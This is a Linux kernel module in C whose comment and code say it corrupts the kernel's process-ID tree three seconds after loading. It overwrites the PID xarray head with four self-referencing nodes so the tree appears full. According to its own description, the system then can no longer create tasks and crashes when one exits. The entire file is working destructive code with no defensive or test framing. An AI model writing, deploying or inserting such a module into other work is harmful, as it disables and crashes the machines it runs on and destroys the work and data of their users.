// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Three seconds after it was loaded, this module replaces the kernel's tree of pids by four nodes. All
 * slots of a node lead to the node below, those of the lowest to one pid. So the tree seems to have 16
 * million pids, of which Linux allows 4 million (PID_MAX_LIMIT). From then on the kernel can make no
 * task, and a task that ended would crash it.
 */
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/sched.h>
#include <linux/slab.h>
#include <linux/workqueue.h>
#include <linux/xarray.h>

#define KNOT_LEVELS 4

static void knot_make(struct work_struct *work)
{
	void *entry = get_pid(task_pid(current));
	unsigned int level, slot;

	for (level = 0; level < KNOT_LEVELS; level++) {
		struct xa_node *node = kzalloc(sizeof(*node), GFP_KERNEL);

		if (!node)
			return;
		node->shift = level * XA_CHUNK_SHIFT;
		node->count = XA_CHUNK_SIZE;
		for (slot = 0; slot < XA_CHUNK_SIZE; slot++)
			RCU_INIT_POINTER(node->slots[slot], entry);
		entry = (void *)((unsigned long)node | 2); /* an inner node, see xa_mk_node() */
	}
	WRITE_ONCE(init_pid_ns.idr.idr_rt.xa_head, entry);
	pr_emerg("knot_module: made\n");
}

static DECLARE_DELAYED_WORK(knot_work, knot_make);

static int __init knot_start(void)
{
	schedule_delayed_work(&knot_work, 3 * HZ);
	return 0;
}

module_init(knot_start);
MODULE_DESCRIPTION("A knot in the tree of pids");
MODULE_LICENSE("GPL");
